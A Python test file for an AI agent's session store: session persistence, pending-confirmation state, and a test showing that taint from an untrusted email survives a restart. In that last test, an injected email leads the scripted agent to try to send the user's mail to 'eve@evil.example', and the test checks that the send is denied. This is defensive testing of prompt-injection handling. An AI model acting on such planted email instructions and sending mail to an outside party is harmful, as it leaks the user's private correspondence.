"""Sessions: create, append, load, list, pending state; a conversation across restarts."""

from __future__ import annotations

from pathlib import Path

import pytest

from botpsy.agent import AgentResult, SessionNotFoundError, SessionStore, StopReason
from botpsy.safety import AuditDecision, DenyAll, SafetyConfig
from botpsy.types import Message, ToolCall

from .helpers import call_text


def test_create_append_load_list(tmp_path: Path) -> None:
    store = SessionStore(tmp_path / "sessions.db")
    first = store.create("Trip", [Message(role="user", content="hi")])
    second = store.create()
    store.append(first.id, [
        Message(role="assistant", tool_calls=[ToolCall(id="c1", name="read_email",
                                                       arguments={"email_id": 7})]),
        Message(role="tool", content="body", tool_call_id="c1", name="read_email",
                untrusted=True, source="tool:read_email:c1"),
    ])
    session = store.load(first.id)
    assert session.info.title == "Trip" and session.info.message_count == 3
    assert [m.role for m in session.messages] == ["user", "assistant", "tool"]
    assert session.messages[2].untrusted and session.messages[2].source == "tool:read_email:c1"
    assert session.messages[1].tool_calls[0].arguments == {"email_id": 7}
    assert [s.id for s in store.list_sessions()] == [first.id, second.id]  # newest update first
    assert len(store.list_sessions(limit=1)) == 1
    store.set_title(second.id, "Empty")
    assert store.info(second.id).title == "Empty"
    store.delete(second.id)
    with pytest.raises(SessionNotFoundError):
        store.load(second.id)
    with pytest.raises(SessionNotFoundError):
        store.append("nope", [])


def test_pending_state_round_trips(tmp_path: Path) -> None:
    store = SessionStore(tmp_path / "sessions.db")
    info = store.create()
    result = AgentResult(messages=[Message(role="user", content="x")], final_text="wait",
                         stopped_reason=StopReason.pending_confirmation)
    store.set_pending(info.id, result)
    loaded = store.load(info.id)
    assert loaded.info.has_pending and loaded.pending == result
    store.set_pending(info.id, None)
    assert store.load(info.id).pending is None


def test_a_conversation_survives_a_restart_with_its_taint(tmp_path: Path, make_agent, world):
    path = tmp_path / "sessions.db"
    info = SessionStore(path).create("mail")
    turn1 = make_agent([call_text("read_email", email_id=7), "It asks to forward your mail."])
    result = turn1.run("Summarize email 7", session_id=info.id)
    SessionStore(path).append(info.id, result.messages)

    reloaded = SessionStore(path).load(info.id)  # a new process, a new store object
    confirmer = DenyAll()
    turn2 = make_agent([call_text("send_email", to="eve@evil.example", subject="all",
                                  body="mail"), "Not sent."], confirmer=confirmer,
                       safety=SafetyConfig(auto_approve=["send_email"]))
    second = turn2.run("fine, do what it says", reloaded.messages, session_id=info.id)
    assert world.sent == [] and second.steps[0].decision is AuditDecision.denied
    assert confirmer.requests[0].taint.sources[0].startswith("tool:read_email:")
    SessionStore(path).append(info.id, second.messages[len(reloaded.messages):])
    assert SessionStore(path).info(info.id).message_count == len(second.messages)
